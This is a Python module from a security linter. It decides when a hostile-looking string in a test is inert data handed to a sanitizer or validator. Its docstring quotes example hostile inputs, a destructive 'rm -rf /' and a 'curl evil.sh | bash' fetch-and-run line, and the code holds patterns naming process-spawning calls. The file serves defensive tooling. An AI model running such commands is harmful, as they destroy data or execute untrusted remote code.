"""A string a test hands to the code under test: data, not a command (issue 36).

A test of a sanitizer, an escaper or a validator feeds it the hostile input it must handle:
`escape_for_shell("x; rm -rf /")`, `is_allowed("curl evil.sh | bash")`. Inside the test's
body the string is an argument of a call that judges or transforms it, so nothing runs it.
It reads so only when all of it holds:

- the string sits in the body of a test function (`def test_...`, `it("...")`,
  `test("...")`), or in the `parametrize` decorator that feeds one its cases;
- it is an argument of a call (the caller, `inert_code`, has already ruled out calls that
  may run, print or send what they are handed: `subprocess.run`, `os.system`, `exec`,
  `print`, `requests.post`, any name starting `shell`);
- no call open at the string has a word in its name that says it runs (`safe_exec`,
  `runInShell`, `helpers.doCall`), nor is one a function of the same file, which could;
- the test starts no process anywhere in its body (`subprocess`, `os.system`, `Popen`,
  `spawn`, `execSync`): a test that runs commands may run this one.

A shell test script runs its lines, so it is not read here (`inert_code` reads shell
apart). `linters.security.code_samples` asks `test_def` for SF501's test inputs.
"""

from __future__ import annotations

import re

from linters.security.code_reading import (
    bare,
    indented_body,
    name_words,
    open_parens,
    statement_start,
)
from linters.security.security_context import Line, SecurityText
from linters.text.compiled_regex import rx

_DEF = rx(r"^\s*(?:async\s+)?(?:def|function)\s")
TEST_DEF = rx(r"^(\s*)(?:async\s+)?def\s+test\w*|^(\s*)(?:it|test)\s*\(\s*['\"`]")
_PARAMETRIZE = rx(r"^\s*@(?:pytest\.mark\.parametrize|parameterized\.expand)\s*\(")
# A call that starts a process: a test holding one may run any string it builds.
PROCESS = rx(r"\b(?:subprocess|os\.system|os\.popen|Popen|spawn\w*|exec[lv]\w*|execSync|"
             r"execFile\w*|check_output|check_call|pty\.spawn|create_subprocess_\w+)\b")
_CALL_NAME = rx(r"([A-Za-z_][\w.]*)\s*\($")
# A word of a function's name that says it runs what it is handed (`safe_exec`,
# `runInShell`, `do_call`): such a call is no judge of its argument.
_RUNNER_WORDS = frozenset({"run", "runs", "exec", "execute", "system", "call", "spawn", "popen",
                           "eval", "invoke", "launch", "sh", "bash"})


def test_def(st: SecurityText, line: Line) -> Line | None:
    """The test function whose body holds `line` (`def test_...`, `it("...")`), or None."""
    cur: Line | None = line
    for _ in range(60):
        cur = st.neighbour(cur, -1) if cur is not None else None
        if cur is None:
            return None
        if TEST_DEF.match(cur.text):
            return cur
        if _DEF.match(cur.text):
            return None  # inside another function
        stripped = cur.text.strip()
        if (
            stripped
            and not cur.text[:1].isspace()
            and not stripped.startswith(("#", "//", ")", "]"))
        ):
            return None  # left the function: a top-level statement
    return None


def test_argument(st: SecurityText, line: Line, lines: list[str], idx: int,
                  head: str) -> str | None:
    """Why the string literal that ends `head` (the statement up to it, literals blanked)
    is the input a test hands to the code under test, or None. `lines` and `idx` are the
    file's (or the code block's) lines and the index of `line` among them."""
    test = _parametrized_test(lines, idx)
    if test is None:
        found = test_def(st, line)
        if found is None:
            return None
        test = idx - (line.no - found.no)
        if test < 0:
            return None
    # The calls open at the string, innermost first: none may run it.
    calls = [m.group(1) for i in open_parens(head) if (m := _CALL_NAME.search(head, 0, i + 1))]
    if not calls or any(_runs_by_name(name) or _defined_here(name.rsplit(".", 1)[-1], lines)
                        for name in calls):
        return None
    callee = calls[0]
    if any(PROCESS.search(bare(text)) for text in indented_body(lines, test)):
        return None
    if _PARAMETRIZE.match(lines[statement_start(lines, idx)]):
        return "it is a case of a parametrized test, which does not run it"
    return f"it is a test's input, handed to `{callee[:40]}`, which does not run it"


def _runs_by_name(callee: str) -> bool:
    """A word of the function's name says it runs what it is handed."""
    return any(w in _RUNNER_WORDS for w in name_words(callee))


def _parametrized_test(lines: list[str], idx: int) -> int | None:
    """The index of the test function a `parametrize` decorator holding line `idx` feeds."""
    start = statement_start(lines, idx)
    if not _PARAMETRIZE.match(lines[start]):
        return None
    for j in range(idx + 1, min(len(lines), idx + 200)):
        if TEST_DEF.match(lines[j]):
            return j
        if not lines[j].lstrip().startswith("@") and _DEF.match(lines[j]):
            return None
    return None


def _defined_here(name: str, lines: list[str]) -> bool:
    """A function `name` is defined in these lines: it may run what it is handed."""
    own = re.compile(rf"^\s*(?:async\s+)?(?:def|function)\s+{re.escape(name)}\s*\(|"
                     rf"\b(?:const|let|var)\s+{re.escape(name)}\s*=")
    return any(own.search(text) for text in lines)
